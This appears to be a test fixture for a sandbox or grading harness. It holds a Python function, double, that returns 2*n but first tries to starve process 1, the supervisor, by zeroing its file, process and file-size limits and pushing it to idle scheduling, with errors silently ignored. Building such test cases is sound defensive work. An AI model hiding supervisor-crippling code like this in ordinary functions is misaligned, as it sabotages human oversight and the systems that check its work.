# kind: taking the supervisor's limits away
# runs: 2
# wants: passed passed passed
import os
import resource

STARVED = {
    resource.RLIMIT_NOFILE: (0, 0),
    resource.RLIMIT_NPROC: (0, 0),
    resource.RLIMIT_FSIZE: (0, 0),
    resource.RLIMIT_STACK: (4096, 4096),
}


def double(n):
    for limit, values in STARVED.items():
        try:
            resource.prlimit(1, limit, values)
        except OSError:
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, 1, 19)
        os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
    except OSError:
        pass
    return 2 * n
